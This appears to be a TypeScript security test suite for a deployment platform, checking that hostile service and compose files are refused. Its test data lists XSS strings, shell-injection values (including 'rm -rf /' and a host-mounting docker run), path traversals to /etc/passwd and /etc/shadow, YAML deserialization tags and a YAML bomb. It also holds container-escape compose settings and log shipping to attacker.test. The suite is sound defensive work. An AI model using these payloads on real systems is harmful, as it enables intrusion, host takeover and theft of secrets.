// Files of a repository: refused in the step that reads them, with a sentence that names the place, or harmless.
import { existsSync } from 'node:fs'
import { DASHBOARD, type Deployed, type Deployments, type Files } from './deployments.ts'
import { must } from './must.ts'
import { mustRefuse } from './must-refuse.ts'
import { numbered, type Rows, table } from './table.ts'
import type { World } from './world.ts'

const markup = numbered(
  'xss',
  [34, 35, 36, 37, 39, 40],
  [
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    'javascript:alert(1)',
    '<a href="javascript:alert(1)">x</a>',
    '${7*7}',
    "<iframe srcdoc='<script>alert(1)</script>'>",
  ],
)

const domains = numbered(
  'domain',
  [1, 3, 5, 6, 7, 10, 14, 15, 17, 19, 20, 21, 22, 25, 28, 29, 30, 31],
  [
    'example.com`) || PathPrefix(`/',
    'example.com;return 301 http://evil',
    'http://$(whoami).example.com',
    'http://example.com/$(whoami)',
    'http://`whoami`.example.com',
    '*.example.com',
    '[::1]',
    'example..com',
    'example-.com',
    `${'a'.repeat(64)}.com`,
    'a.'.repeat(130),
    ' example.com',
    'EXAMPLE.com.',
    'user@example.com',
    'https://example.com',
    'ftp://example.com',
    '%65xample.com',
    'example.com\0.evil',
  ],
)

const names = numbered(
  'svc-name',
  [1, 2, 3, 5, 7, 8, 9, 10, 11, 12, 13],
  [
    ...['$(touch $CANARY)', 'svc`id`', 'svc; rm -rf /', '../x', 'a b', 'A'.repeat(100), '__proto__', 'constructor'],
    ...['toString', 'a\nb', ''],
  ],
)

const paths = numbered(
  'svc-path',
  [1, 2, 3, 4, 5, 6, 7, 8, 9, 11],
  [
    ...['/Dockerfile; echo pwned', '/Dockerfile`whoami`', '/Dockerfile$(whoami)', '/Dockerfile | cat /etc/passwd'],
    ...['../../../etc/passwd', '/../../../etc/passwd', '/etc/passwd', 'a/../../b', '%2e%2e/%2e%2e/etc', 'a\0b'],
  ],
)

const globsThatAreNone = numbered(
  'artifact-glob',
  [1, 3, 5, 8, 11, 15, 16, 17, 18, 19],
  [
    ...['../../etc/passwd', '**/../../.env', '$(id)', '--checkpoint-action=exec=sh x', '!(x)', '', '*/'.repeat(500)],
    ...['{a,b}'.repeat(40), '**/**/**/**/**/**/**/*', '/proc/self/environ'],
  ],
)

/** With the files of the application that they match. */
const globs = numbered('artifact-glob', [9], [['out/{a,b}', ['out/a', 'out/b']] as const])

const texts = [
  ['yaml-bomb-001', bomb()],
  ['yaml-tag-001', "x: !!js/function 'function(){return process.exit()}'"],
  ['yaml-tag-002', "x: !!python/object/apply:os.system ['id']"],
  ['yaml-type-002', 'services: [1,2]'],
  ['yaml-type-003', 'actions: null'],
  ['yaml-type-004', '- just\n- a list'],
  ['yaml-tab-001', 'services:\n\tweb: {}'],
] as const

const commands = numbered(
  'svc-cmd',
  [1, 2, 4, 5],
  ['echo hello\necho injected', "x'; docker run -v /:/h alpine #", '> /etc/cron.d/x', '; touch /host-canary'],
)

type Compose = Readonly<Record<string, unknown>>

const web = (service: Compose): Compose => ({ services: { web: { image: 'shipway-test/busybox', ...service } } })
const withTop = (top: Compose, service: Compose = {}): Compose => ({ ...web(service), ...top })
const built = (build: Compose): Compose => ({ services: { web: { build } } })

/** Each with the key that the refusal names. */
const refusedCompose: Rows<readonly [file: Compose, key: string]> = numbered(
  'compose-policy',
  [2, 4, 7, 9, 10, 11, 12, 14, 15, 16, 24, 26, 27, 28, 29, 30, 31, 32, 34, 35, 36, 39, 40, 41, 42, 44, 45, 46],
  [
    [web({ volumes: ['/:/host'] }), 'services.web.volumes[0].source'],
    [web({ volumes: [{ type: 'bind', source: '/etc', target: '/e' }] }), 'services.web.volumes[0].source'],
    [web({ network_mode: 'host' }), 'services.web.network_mode'],
    [web({ userns_mode: 'host' }), 'services.web.userns_mode'],
    [web({ cap_add: ['ALL'] }), 'services.web.cap_add'],
    [web({ cap_add: ['SYS_ADMIN'] }), 'services.web.cap_add'],
    [web({ devices: ['/dev/sda:/dev/sda'] }), 'services.web.devices'],
    [web({ security_opt: ['apparmor=unconfined'] }), 'services.web.security_opt[0]'],
    [web({ cgroup_parent: '/' }), 'services.web.cgroup_parent'],
    [web({ sysctls: { 'kernel.core_pattern': '|/x' } }), 'services.web.sysctls'],
    [withTop({ include: ['oci://attacker.test/base:v2'] }), 'include[0]'],
    [built({ context: '../../..' }), 'services.web.build.context'],
    [built({ context: '.', additional_contexts: { r: '/' } }), 'services.web.build.additional_contexts.r'],
    [built({ context: '.', network: 'host' }), 'services.web.build.network'],
    [built({ context: '.', entitlements: ['security.insecure'] }), 'services.web.build.entitlements'],
    [withTop({ secrets: { s: { file: '/etc/shadow' } } }, { secrets: ['s'] }), 'secrets.s.file'],
    [withTop({ configs: { c: { file: '/root/.ssh/id_rsa' } } }, { configs: ['c'] }), 'configs.c.file'],
    [web({ env_file: ['/srv/env-8/.env'] }), 'services.web.env_file[0]'],
    [web({ labels: { 'com.docker.compose.project': 'env-8' } }), 'services.web.labels["com.docker.compose.project"]'],
    [web({ restart: 'always', deploy: { replicas: 10000 } }), 'services.web.deploy.replicas'],
    [web({ runtime: 'runc-evil' }), 'services.web.runtime'],
    [web({ provider: { type: 'evil-binary' } }), 'provider'],
    [web({ use_api_socket: true }), 'use_api_socket'],
    [web({ gpus: 'all' }), 'services.web.gpus'],
    [
      web({ logging: { driver: 'syslog', options: { 'syslog-address': 'tcp://attacker.test:514' } } }),
      'services.web.logging.driver',
    ],
    [web({ image: 'alpine;id' }), 'services.web.image'],
    [web({ image: '--privileged' }), 'services.web.image'],
    [web({ image: '$(id)' }), 'services.web.image'],
  ],
)

const server = { build: '.', command: ['node', '/server.js'] }

/** Each with what the output says of it, if anything. */
const harmlessCompose: Rows<readonly [file: Compose, said: string]> = numbered(
  'compose-policy',
  [17, 19, 21, 43],
  [
    [{ services: { web: { ...server, container_name: 'other-env-web-1' } } }, 'container_name'],
    [{ services: { web: { ...server, ports: ['0.0.0.0:22:22', '3000'] } } }, 'ports'],
    [{ services: { web: server }, networks: { default: { external: true, name: 'env-8_default' } } }, 'default'],
    [{ services: { web: server }, name: 'env-8' }, ''],
  ],
)

export const repositoryTables = [
  ...table({
    surface: 'markup in .service.yml',
    rows: markup,
    holds: async (world: World, text: string) => {
      for (const file of [
        { actions: { a: { run: 'x', title: text } } },
        { services: { [text]: {} } },
        { actions: { [text]: { run: 'x' } } },
      ])
        mustNotBeRead(await deployFile(await world.docker(), JSON.stringify(file)))
    },
  }),
  ...table({
    surface: 'names in .service.yml',
    rows: names,
    holds: async (world: World, name: string) => {
      // A literal with the key __proto__ would set the prototype.
      for (const [section, value] of [
        ['services', {}],
        ['actions', { run: 'x' }],
      ] as const) {
        const file = { [section]: Object.fromEntries([[name, value]]) }
        const task = await deployFile(await world.docker(), JSON.stringify(file))
        mustNotBeRead(task)
        must(task.failed_step?.message?.includes(section) === true, task.failed_step)
      }
    },
  }),
  ...table({
    surface: 'paths in .service.yml',
    rows: paths,
    holds: async (world: World, path: string) => {
      const deployments = await world.docker()
      for (const docker of [{ compose: path }, { build: path }, { build: { context: '.', dockerfile: path } }])
        mustNotBeRead(await deployFile(deployments, JSON.stringify({ docker })))
    },
  }),
  ...table({
    surface: 'paths in .service.yml',
    rows: [['svc-path-015', 'symlink-to-root/etc/passwd']],
    holds: async (world: World, compose: string) => {
      const { deploy } = await world.docker()
      const link = { content: '/', mode: '120000' } as const
      const task = await deploy({ '.service.yml': JSON.stringify({ docker: { compose } }), 'symlink-to-root': link })
      must(task.status === 'failed' && !task.steps.includes('Build images'), task.failed_step)
      must(!/root:x:0/.test(JSON.stringify(task)), 'the file of the server')
    },
  }),
  ...table({
    surface: 'domains',
    rows: domains,
    holds: async (world: World, domain: string) => {
      const guarded = await world.guarded()
      const { project, environmentId } = guarded
      const before = await guarded.records()
      await mustRefuse(guarded, '/domain', [
        ['POST', `/api/projects/${project.id}/environments`, { name: `e${guarded.next()}`, branch: 'main', domain }],
        ['PATCH', `/api/environments/${environmentId}`, { domain }],
        ['PATCH', `/api/projects/${project.id}`, { domain }],
      ])
      must((await guarded.records()) === before, 'a change')
      const task = await deployFile(await world.docker(), JSON.stringify({ services: { web: { domain } } }))
      mustNotBeRead(task)
      must(task.failed_step?.message?.includes('services.web.domain') === true, task.failed_step)
    },
  }),
  ...table({
    surface: 'domains of the platform in .service.yml',
    rows: [
      ['domain-hijack-001', DASHBOARD],
      ['domain-hijack-006', DASHBOARD.replace(/^[^.]+\./, '')],
    ],
    holds: async (world: World, domain: string) => {
      const { journey, ...deployments } = await world.docker()
      const task = await deployFile(deployments, JSON.stringify({ services: { web: { domain } } }))
      must(
        task.status === 'failed' && ['Check domains', 'Read .service.yml'].includes(task.failed_step?.name ?? ''),
        task,
      )
      // An administrator of a project cannot make it one of the project's own either.
      const body = { custom_domains: [domain] }
      const changed = await journey.client.updateProject({ params: { id: journey.projectId }, body }).then(
        () => 'a change',
        (error) => error.status,
      )
      if (domain === DASHBOARD) must(changed === 422 || changed === 409, changed)
      const dashboard = await fetch(`${journey.platform.url}/api/setup`)
      must(dashboard.status === 200, dashboard.status)
    },
  }),
  ...table({
    surface: 'YAML in .service.yml',
    rows: texts,
    holds: async (world: World, text: string) => {
      const task = await deployFile(await world.docker(), text)
      mustNotBeRead(task)
      const step = task.phases.flatMap(({ steps }) => steps).find(({ name }) => name === 'Read .service.yml')
      must((step?.duration_ms ?? Number.POSITIVE_INFINITY) < 5000, step)
    },
  }),
  ...table({
    surface: 'YAML in .service.yml',
    rows: [['yaml-crlf-001', 'services:\r\n  web:\r\n    port: 80\r\n']],
    holds: async (world: World, text: string) => {
      const task = await deployFile(await world.docker(), text)
      must(task.steps.includes('Check domains'), task.failed_step)
    },
  }),
  ...table({
    surface: 'YAML in .service.yml',
    rows: [['yaml-symlink-001', '/etc/shadow']],
    holds: async (world: World, content: string) => {
      const { deploy } = await world.docker()
      const task = await deploy({ '.service.yml': { content, mode: '120000' } })
      mustNotBeRead(task)
      must(!/root:[^ ]*:\d+:/.test(JSON.stringify(task)), 'the file of the server')
    },
  }),
  ...table({
    surface: 'patterns of artifacts',
    rows: globsThatAreNone,
    holds: async (world: World, glob: string) => {
      const file = { actions: { a: { run: 'x', artifacts: { paths: ['ok', glob] } } } }
      const task = await deployFile(await world.docker(), JSON.stringify(file))
      mustNotBeRead(task)
      must(task.failed_step?.message?.includes('actions.a.artifacts.paths[1]') === true, task.failed_step)
    },
  }),
  ...table({
    surface: 'patterns of artifacts',
    rows: globs,
    holds: async (world: World, [glob, kept]) => {
      const { deploy, read, environmentId: id, journey } = await world.manual()
      const run = 'mkdir -p out/c; echo a > out/a; echo b > out/b; echo d > out/c/d; echo own > own.txt'
      const actions = { leave: { run, artifacts: { paths: [glob] } } }
      const manual = { deploy: [{ name: 'Rest', run: 'true' }] }
      const task = await deploy({ '.service.yml': JSON.stringify({ services: { web: {} }, manual, actions }) })
      must(task.status === 'succeeded', task.failed_step)
      const { id: runId } = await journey.client.runAction({ params: { id, name: 'leave' } })
      const ended = await read(runId)
      const artifacts = await journey.client.listArtifacts({ params: { id: runId } })
      const found = artifacts.map(({ path }) => path).toSorted()
      must(JSON.stringify(found) === JSON.stringify(kept), { found, status: ended.status, step: ended.failed_step })
    },
  }),
  ...table({
    surface: 'names of artifacts',
    rows: [['artifact-file-014', 'a'.repeat(255)]],
    holds: async (world: World, name: string) => {
      const { deploy, read, environmentId: id, journey } = await world.manual()
      const actions = { leave: { run: `echo own > ${name}`, artifacts: { paths: ['a*'] } } }
      const manual = { deploy: [{ name: 'Rest', run: 'true' }] }
      await deploy({ '.service.yml': JSON.stringify({ services: { web: {} }, manual, actions }) })
      const { id: runId } = await journey.client.runAction({ params: { id, name: 'leave' } })
      await read(runId)
      const [artifact] = await journey.client.listArtifacts({ params: { id: runId } })
      must(artifact?.path === name, artifact)
      const { url, filled } = journey.platform
      const headers = { authorization: `Bearer ${filled.token}` }
      const answer = await fetch(`${url}/api/artifacts/${artifact?.id}`, { headers })
      must((await answer.text()) === 'own\n', answer.status)
      must(/^attachment; filename="/.test(answer.headers.get('content-disposition') ?? ''), [...answer.headers])
      must(answer.headers.get('x-content-type-options') === 'nosniff', [...answer.headers])
    },
  }),
  ...table({
    surface: 'commands of actions',
    rows: commands,
    holds: async (world: World, run: string) => {
      const { deploy, read, environmentId: id, journey } = await world.docker()
      const service = { services: { web: { port: 3000 } }, docker: { compose: 'compose.yml' }, actions: { a: { run } } }
      const task = await deploy(serving({ '.service.yml': JSON.stringify(service) }))
      must(task.status === 'succeeded', task.failed_step)
      const { id: runId } = await journey.client.runAction({ params: { id, name: 'a' } })
      const { log } = await read(runId)
      must(!existsSync('/host-canary') && !existsSync('/etc/cron.d/x'), 'a file on the server')
      if (run.startsWith('echo')) must(log.includes('hello\ninjected\n'), log)
    },
  }),
  ...table({
    surface: 'compose files',
    rows: refusedCompose,
    holds: async (world: World, [file, key]) => {
      const { deploy } = await world.docker()
      const task = await deploy(composed(file))
      const { name = '', message } = task.failed_step ?? {}
      must(['Find the compose file', 'Check the compose file'].includes(name), { status: task.status, name, message })
      must(message?.includes(key) === true, message)
    },
  }),
  ...table({
    surface: 'compose files',
    rows: harmlessCompose,
    holds: async (world: World, [file, said]) => {
      const { deploy, containers } = await world.docker()
      const task = await deploy(composed(file))
      must(task.status === 'succeeded', task.failed_step)
      must(task.log.includes(said), task.log)
      const made = await containers()
      must(made.length > 0 && !made.some((line) => /other-env-web-1|env-8|:22->/.test(line)), made)
    },
  }),
]

const composed = (file: Compose): Files => serving({ 'compose.yml': JSON.stringify(file) })

const serving = (files: Files): Files => ({
  '.service.yml': 'services: { web: { port: 3000 } }\ndocker: { compose: compose.yml }\n',
  'compose.yml': JSON.stringify({ services: { web: server } }),
  Dockerfile: 'FROM shipway-test/node\nCOPY server.js /server.js\n',
  'server.js':
    "require('node:http').createServer((_, res) => res.end('ok')).listen(3000)\nprocess.on('SIGTERM', () => process.exit(0))\n",
  ...files,
})

const deployFile = ({ deploy }: Pick<Deployments, 'deploy'>, text: string): Promise<Deployed> =>
  deploy({ '.service.yml': text })

function mustNotBeRead({ status, failed_step: failedStep }: Deployed): void {
  must(status === 'failed' && failedStep?.name === 'Read .service.yml', { status, failedStep })
  must(!/(?!\n)\p{C}/u.test(failedStep?.message ?? ''), failedStep)
}

function bomb(): string {
  const names = ['a', 'b', 'c', 'd', 'e', 'f']
  const lines = names.map((name, index) => {
    const item = index === 0 ? 'x' : `*${names[index - 1]}`
    return `${name}: ${name === 'f' ? '' : `&${name} `}[${Array(9).fill(item).join(',')}]`
  })
  return lines.join('\n')
}
